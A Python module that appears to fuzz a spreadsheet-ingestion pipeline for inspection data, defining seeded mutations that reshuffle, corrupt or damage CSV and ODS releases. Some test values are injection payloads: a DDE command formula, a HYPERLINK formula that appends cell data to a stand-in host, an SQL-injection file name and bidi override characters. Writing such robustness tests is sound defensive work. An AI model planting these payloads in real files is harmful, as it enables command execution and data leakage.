"""Releases, and what may happen to them on the way: each mutation is one thing, drawn with a seed.

A release is a `Book`: sheets of rows of cells, and how they are saved. A mutation changes a book, or the
bytes that were saved, and belongs to one of three kinds:

``same``    nothing that is read has changed: the dataset must not differ in any number;
``value``   what is published has changed: the data say what the file now says, or the row is set aside;
``broken``  the file can hardly be used: it is refused, or what is built is what the file still says.
"""

# Cells are longer than lines of code.
# ruff: noqa: E501
from __future__ import annotations

import csv
import io
import random
import zipfile
from collections.abc import Callable
from copy import deepcopy
from dataclasses import dataclass, field
from datetime import date, datetime
from pathlib import Path
from typing import Any

from ofsight.demo import Sheet, write_ods

__all__ = ["MUTATIONS", "Book", "Mutation", "save"]

Rows = list[list[Any]]


@dataclass
class Book:
    """One release and how it is saved."""

    name: str
    sheets: dict[str, Rows]
    heading_rows: dict[str, int]
    encoding: str = "utf-8-sig"
    separator: str = ","
    line_end: str = "\n"
    damage: list[Callable[[bytes], bytes]] = field(default_factory=list)

    @property
    def is_csv(self) -> bool:
        """Whether it is saved as csv, whatever its name says."""
        return len(self.sheets) == 1 and "" in self.sheets

    def target(self, rng: random.Random) -> str:
        """A sheet that is read: of homes and their inspections."""
        return rng.choice(sorted(self.heading_rows))

    def headings(self, sheet: str) -> list[Any]:
        return self.sheets[sheet][self.heading_rows[sheet]]

    def body(self, sheet: str) -> Rows:
        return self.sheets[sheet][self.heading_rows[sheet] + 1 :]

    def put_body(self, sheet: str, body: Rows) -> None:
        self.sheets[sheet][self.heading_rows[sheet] + 1 :] = body


@dataclass(frozen=True)
class Mutation:
    """What happens, of which kind it is, and to which files: "csv", "ods" or "any"."""

    kind: str
    apply: Callable[[Book, random.Random], None]
    of: str = "any"


MUTATIONS: dict[str, Mutation] = {}


def _mutation(kind: str, of: str = "any") -> Callable[[Callable[[Book, random.Random], None]], None]:
    def keep(function: Callable[[Book, random.Random], None]) -> None:
        MUTATIONS[function.__name__.strip("_")] = Mutation(kind, function, of)

    return keep


def save(book: Book, folder: Path) -> Path:
    """Write a book as it is saved, with what befalls its bytes."""
    path = folder / book.name
    if book.is_csv:
        out = io.StringIO(newline="")
        writer = csv.writer(out, delimiter=book.separator, lineterminator=book.line_end)
        writer.writerows([[_as_text(cell) for cell in row] for row in book.sheets[""]])
        content = out.getvalue().encode(book.encoding)
    else:
        sheets = [Sheet(name, [tuple(row) for row in rows]) for name, rows in book.sheets.items()]
        write_ods(path, sheets)
        content = path.read_bytes()
    for damage in book.damage:
        content = damage(content)
    path.write_bytes(content)
    return path


def _as_text(cell: Any) -> str:
    if isinstance(cell, float) and cell.is_integer():
        return str(int(cell))
    return cell.isoformat() if isinstance(cell, date | datetime) else str(cell)


def _columns(book: Book, sheet: str, *words: str) -> list[int]:
    """Columns whose heading has one of the words."""
    return [
        n
        for n, heading in enumerate(book.headings(sheet))
        if any(word in str(heading).casefold() for word in words)
    ]


def _rebuilt(book: Book, sheet: str, order: list[int]) -> None:
    width = len(book.headings(sheet))
    for n, row in enumerate(book.sheets[sheet]):
        if n >= book.heading_rows[sheet]:
            padded = [*row, *[""] * (width - len(row))]
            book.sheets[sheet][n] = [padded[place] for place in order]


_NOT_READ = ("web link", "address", "town", "county", "postcode", "linked education", "constituency")


# Nothing that is read has changed.


@_mutation("same")
def _rows_shuffled(book: Book, rng: random.Random) -> None:
    sheet = book.target(rng)
    body = book.body(sheet)
    rng.shuffle(body)
    book.put_body(sheet, body)


@_mutation("same")
def _columns_reordered(book: Book, rng: random.Random) -> None:
    sheet = book.target(rng)
    order = list(range(len(book.headings(sheet))))
    rng.shuffle(order)
    _rebuilt(book, sheet, order)


@_mutation("same", "csv")
def _another_encoding(book: Book, rng: random.Random) -> None:
    book.encoding = rng.choice(["utf-8", "utf-16", "cp1252"])


@_mutation("same", "csv")
def _another_separator(book: Book, rng: random.Random) -> None:
    book.separator = rng.choice(";\t|")


@_mutation("same", "csv")
def _other_ends_of_lines(book: Book, rng: random.Random) -> None:
    book.line_end = rng.choice(["\r\n", "\r"])


@_mutation("same")
def _heading_row_moved(book: Book, rng: random.Random) -> None:
    sheet, n = book.target(rng), rng.randint(1, 8)
    lines = [[rng.choice(["", "", "Some cells in this table are empty.", "This worksheet contains one table."])]
             for _ in range(n)]  # fmt: skip
    at = book.heading_rows[sheet]
    book.sheets[sheet][at:at] = lines
    book.heading_rows[sheet] += n


@_mutation("same")
def _notes_below(book: Book, rng: random.Random) -> None:
    rows = book.sheets[book.target(rng)]
    rows += [[""], ["Source: the inspectorate. See the notes."], [""], ["1. Includes short breaks.", "x"]]
    rows += [[""] * rng.randint(1, 40) for _ in range(rng.randint(0, 30))]


@_mutation("same")
def _marks_that_cannot_be_seen(book: Book, rng: random.Random) -> None:
    sheet = book.target(rng)
    marks = ["\u200f", "\u202b", "\u202e", "\u200b", "\ufeff", "\u2060"]
    for row in rng.sample(book.sheets[sheet][book.heading_rows[sheet] :], 8):
        for n, cell in enumerate(row):
            if isinstance(cell, str) and cell and rng.random() < 0.5:
                row[n] = f"{rng.choice(marks)}{cell}{rng.choice(marks)}"


@_mutation("same")
def _spaces_of_all_kinds(book: Book, rng: random.Random) -> None:
    sheet = book.target(rng)
    for row in rng.sample(book.sheets[sheet][book.heading_rows[sheet] :], 8):
        for n, cell in enumerate(row):
            if isinstance(cell, str) and cell:
                row[n] = rng.choice(["\xa0", " ", "\t", "\n"]) + cell.replace(" ", rng.choice(["\xa0", "  "]))


@_mutation("same", "csv")
def _nul_in_cells(book: Book, rng: random.Random) -> None:
    sheet = book.target(rng)
    for row in rng.sample(book.body(sheet), 5):
        n = rng.randrange(len(row))
        row[n] = f"{row[n][:3]}\x00{row[n][3:]}"


@_mutation("same")
def _formulas_where_nothing_is_read(book: Book, rng: random.Random) -> None:
    sheet = book.target(rng)
    column = rng.choice(_columns(book, sheet, *_NOT_READ))
    for row in book.body(sheet):
        if len(row) > column:
            row[column] = rng.choice(
                ['=HYPERLINK("https://a.example/?x="&A1,"x")', "=1+1", "@SUM(A1)", "-2+3"]
            )


@_mutation("same")
def _a_cell_of_a_hundred_thousand_letters(book: Book, rng: random.Random) -> None:
    sheet = book.target(rng)
    column = rng.choice(_columns(book, sheet, *_NOT_READ))
    row = rng.choice([row for row in book.body(sheet) if len(row) > column])
    row[column] = rng.choice(["x", "a b ", "<&\"';,", "\u00e9"]) * 100_000


@_mutation("same")
def _a_column_more(book: Book, rng: random.Random) -> None:
    sheet = book.target(rng)
    at = rng.randrange(len(book.headings(sheet)))
    for n, row in enumerate(book.sheets[sheet][book.heading_rows[sheet] :]):
        if len(row) >= at:
            row.insert(at, "Telephone of the office" if n == 0 else "c")


@_mutation("same")
def _a_column_doubled(book: Book, rng: random.Random) -> None:
    sheet = book.target(rng)
    n = len(book.headings(sheet))
    _rebuilt(book, sheet, [*range(n), rng.randrange(n)])


@_mutation("same")
def _dates_in_another_style(book: Book, rng: random.Random) -> None:
    sheet, style = (
        book.target(rng),
        rng.choice(["%Y-%m-%d", "%-d %B %Y", "%d-%b-%y", "%d.%m.%Y", "day number"]),
    )
    for column in _columns(book, sheet, "date"):
        for row in book.body(sheet):
            day = _day(row[column]) if len(row) > column else None
            if day is not None and day.year >= 2000:
                number = str((day - date(1899, 12, 30)).days)
                row[column] = number if style == "day number" else day.strftime(style)


@_mutation("same")
def _dates_month_first(book: Book, rng: random.Random) -> None:
    sheet = book.target(rng)
    for column in _columns(book, sheet, "date"):
        for row in book.body(sheet):
            day = _day(row[column]) if len(row) > column else None
            if day is not None:
                row[column] = f"{day:%m/%d/%Y}"


def _day(cell: Any) -> date | None:
    if isinstance(cell, datetime):
        return cell.date()
    if isinstance(cell, date):
        return cell
    try:
        return datetime.strptime(str(cell).strip(), "%d/%m/%Y").date()
    except ValueError:
        return None


@_mutation("same", "csv")
def _saved_as_a_workbook(book: Book, rng: random.Random) -> None:
    name = "Provider_level" if rng.random() < 0.5 else "Sheet1"
    book.sheets[name] = book.sheets.pop("")
    book.heading_rows[name] = book.heading_rows.pop("")
    book.name = f"{Path(book.name).stem}.ods"


@_mutation("same", "csv")
def _another_name(book: Book, rng: random.Random) -> None:
    book.name = rng.choice(
        ["data (1).csv", "list;final.CSV", "x.csv", "Kopie von äöü.csv", "'; drop table.csv"]
    )


@_mutation("same", "ods")
def _sheets_in_another_order(book: Book, rng: random.Random) -> None:
    names = list(book.sheets)
    rng.shuffle(names)
    book.sheets = {name: book.sheets[name] for name in names}


@_mutation("same", "ods")
def _a_sheet_more(book: Book, rng: random.Random) -> None:
    rows = [["Month", "Visits"], *([f"{n}", rng.randint(1, 99)] for n in range(9))]
    book.sheets = {"Pivot": rows, **book.sheets}


@_mutation("same", "ods")
def _a_sheet_spelled_otherwise(book: Book, rng: random.Random) -> None:
    sheet = book.target(rng)
    new = rng.choice([sheet.replace("_", " "), sheet.upper(), f"{sheet} "])
    book.sheets = {new if name == sheet else name: rows for name, rows in book.sheets.items()}
    book.heading_rows[new] = book.heading_rows.pop(sheet)


# What is published has changed.


def _change_cells(book: Book, rng: random.Random, words: tuple[str, ...], new: Callable[[Any], Any]) -> None:
    sheet = book.target(rng)
    column = rng.choice(_columns(book, sheet, *words))
    rows = [row for row in book.body(sheet) if len(row) > column and row[column] != ""]
    for row in rng.sample(rows, min(len(rows), rng.choice([1, 1, 1, 3]))):
        row[column] = new(row[column])


@_mutation("value")
def _another_grade(book: Book, rng: random.Random) -> None:
    grades = [
        "Outstanding",
        "Good",
        "Requires improvement to be good",
        "Inadequate",
        "Splendid",
        "good ",
        "Goood",
    ]
    _change_cells(book, rng, ("overall", "protected", "leaders"), lambda _: rng.choice(grades))


@_mutation("value")
def _another_sector_or_authority(book: Book, rng: random.Random) -> None:
    new = [
        "Voluntary",
        "Private",
        "Local Authority",
        "Health Authority",
        "Bolton",
        "Kent",
        "Nowhere",
        "\u202eevaP",
    ]
    _change_cells(book, rng, ("sector", "local authority"), lambda _: rng.choice(new))


@_mutation("value")
def _another_date(book: Book, rng: random.Random) -> None:
    new = [
        "31/02/2019",
        "01/01/1900",
        "12/05/2091",
        "99/99/9999",
        "soon",
        "",
        "5",
        "43555.5",
        "2019-13-01",
        "1e9",
    ]
    _change_cells(book, rng, ("date",), lambda _: rng.choice(new))


@_mutation("value")
def _another_number(book: Book, rng: random.Random) -> None:
    new = [
        "7",
        "-1",
        "1e3",
        "1,024",
        "4.5",
        "c",
        "low",
        "999999999",
        "\u0667",
        "\u00b2",
        "NaN",
        "inf",
        "0x10",
    ]
    _change_cells(book, rng, ("places", "event number", "urn"), lambda _: rng.choice(new))


@_mutation("value")
def _a_formula_where_it_is_read(book: Book, rng: random.Random) -> None:
    new = ["=A1", "=cmd|' /C calc'!A0", "+1", "@x", "-Good", '=HYPERLINK("https://a.example","Good")']
    _change_cells(book, rng, ("overall", "sector", "date", "urn", "organisation"), lambda _: rng.choice(new))


@_mutation("value")
def _cells_suppressed(book: Book, rng: random.Random) -> None:
    _change_cells(
        book, rng, ("overall", "places", "sector"), lambda _: rng.choice(["c", "x", "z", "k", "REDACTED"])
    )


@_mutation("value")
def _long_cells_where_they_are_read(book: Book, rng: random.Random) -> None:
    _change_cells(
        book, rng, ("overall", "urn", "sector", "organisation", "date"), lambda cell: str(cell) * 20_000
    )


@_mutation("value")
def _rows_dropped(book: Book, rng: random.Random) -> None:
    sheet = book.target(rng)
    body = book.body(sheet)
    book.put_body(sheet, rng.sample(body, max(1, len(body) - rng.randint(1, 9))))


@_mutation("value")
def _rows_doubled(book: Book, rng: random.Random) -> None:
    sheet = book.target(rng)
    body = book.body(sheet)
    book.put_body(sheet, [*body, *deepcopy(rng.sample(body, rng.randint(1, 5)))])


@_mutation("value")
def _rows_cut_short(book: Book, rng: random.Random) -> None:
    for row in rng.sample(book.body(book.target(rng)), 2):
        del row[rng.randrange(len(row)) :]


@_mutation("value")
def _cells_merged_downwards(book: Book, rng: random.Random) -> None:
    """What a merged cell looks like to a reader: the first has the value, the others are empty."""
    sheet = book.target(rng)
    column, body = rng.randrange(len(book.headings(sheet))), book.body(sheet)
    at = rng.randrange(len(body) - 3)
    for row in body[at + 1 : at + 3]:
        if len(row) > column:
            row[column] = ""


@_mutation("value")
def _rows_moved_sideways(book: Book, rng: random.Random) -> None:
    for row in rng.sample(book.body(book.target(rng)), rng.choice([1, 2, 10])):
        row.insert(rng.randrange(len(row)), "")


# Columns: named, missing, exchanged.


@_mutation("value")
def _a_column_dropped(book: Book, rng: random.Random) -> None:
    sheet = book.target(rng)
    order = list(range(len(book.headings(sheet))))
    order.remove(rng.choice(order))
    _rebuilt(book, sheet, order)


@_mutation("value")
def _a_column_renamed(book: Book, rng: random.Random) -> None:
    headings = book.headings(book.target(rng))
    n = rng.randrange(len(headings))
    headings[n] = rng.choice(
        [f"{headings[n]} (new)", "Column1", "", "Überschrift", f"={headings[n]}", "#REF!"]
    )


@_mutation("value")
def _headings_exchanged(book: Book, rng: random.Random) -> None:
    headings = book.headings(book.target(rng))
    one, other = rng.sample(range(len(headings)), 2)
    headings[one], headings[other] = headings[other], headings[one]


@_mutation("value")
def _a_column_doubled_with_other_cells(book: Book, rng: random.Random) -> None:
    sheet = book.target(rng)
    n = len(book.headings(sheet))
    _rebuilt(book, sheet, [*range(n), rng.randrange(n)])
    for row in rng.sample(book.body(sheet), 3):
        row[-1] = "Good" if row[-1] != "Good" else "Outstanding"


@_mutation("value")
def _headings_cut_off(book: Book, rng: random.Random) -> None:
    headings = book.headings(book.target(rng))
    del headings[rng.randrange(1, len(headings)) :]


@_mutation("value")
def _two_tables_in_one(book: Book, rng: random.Random) -> None:
    sheet = book.target(rng)
    again = deepcopy(book.sheets[sheet][book.heading_rows[sheet] :])
    book.sheets[sheet] += [[""], *again[: rng.randint(1, 5)]]


# The file is damaged.


@_mutation("broken")
def _cut_off(book: Book, rng: random.Random) -> None:
    share = rng.random()
    book.damage.append(lambda content: content[: int(share * len(content))])


@_mutation("broken")
def _no_bytes(book: Book, rng: random.Random) -> None:
    book.damage.append(lambda content: b"")


@_mutation("broken")
def _bytes_overwritten(book: Book, rng: random.Random) -> None:
    places = [(rng.random(), rng.randbytes(rng.randint(1, 30))) for _ in range(rng.randint(1, 6))]

    def overwrite(content: bytes) -> bytes:
        changed = bytearray(content)
        for share, piece in places:
            at = int(share * len(changed))
            changed[at : at + len(piece)] = piece
        return bytes(changed)

    book.damage.append(overwrite)


@_mutation("broken", "ods")
def _an_entry_missing(book: Book, rng: random.Random) -> None:
    lost = rng.choice(["content.xml", "mimetype", "META-INF/manifest.xml", "styles.xml"])
    book.damage.append(lambda content: _repacked(content, lambda parts: parts.pop(lost, None)))


@_mutation("broken", "ods")
def _an_entry_cut_off(book: Book, rng: random.Random) -> None:
    share = rng.random()

    def cut(parts: dict[str, bytes]) -> None:
        parts["content.xml"] = parts["content.xml"][: int(share * len(parts["content.xml"]))]

    book.damage.append(lambda content: _repacked(content, cut))


def _repacked(content: bytes, change: Callable[[dict[str, bytes]], Any]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return out.getvalue()


@_mutation("broken")
def _a_wrong_ending(book: Book, rng: random.Random) -> None:
    suffix = rng.choice([".xlsx", ".ods", ".xls", ".xlsb", ".csv"])
    book.name = f"{Path(book.name).stem}{suffix}"


@_mutation("broken")
def _a_page_of_the_web(book: Book, rng: random.Random) -> None:
    start = rng.choice(
        [b"<!DOCTYPE html><title>Sorry</title>", b"\n<html><body>404", b"<?xml version='1.0'?><Error/>"]
    )
    book.damage.append(lambda content: start + b"<p>Page not found</p>" * 9)


@_mutation("broken")
def _junk_behind(book: Book, rng: random.Random) -> None:
    junk = rng.choice([rng.randbytes(500), b"\x00" * 4096, b"\n\n\n", b"<!-- cached -->\n"])
    book.damage.append(lambda content: content + junk)
